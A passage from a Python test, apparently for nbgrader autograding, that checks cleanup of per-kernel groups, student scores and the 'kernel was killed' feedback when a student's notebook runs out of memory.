        path = f"{BIN}:{tmp_path}/bin:/usr/bin:/bin"
        nbgrader(tmp_path, "autograde", ASSIGNMENT, path=path)
    finally:
        made = [*GROUPS.glob(f"{OWN}-*")]
        for group in made:
            group.rmdir()
    assert len(made) >= 4  # three kernels, and one to try it
    found = {student: points[:4] for student, points in scores(tmp_path, ASSIGNMENT).items()}
    assert found == {"a": FULL, "b": FULL._replace(measured=0, read=0), "c": FULL}
    assert "the kernel was killed, as it is when memory runs out" in graded(tmp_path, "b")
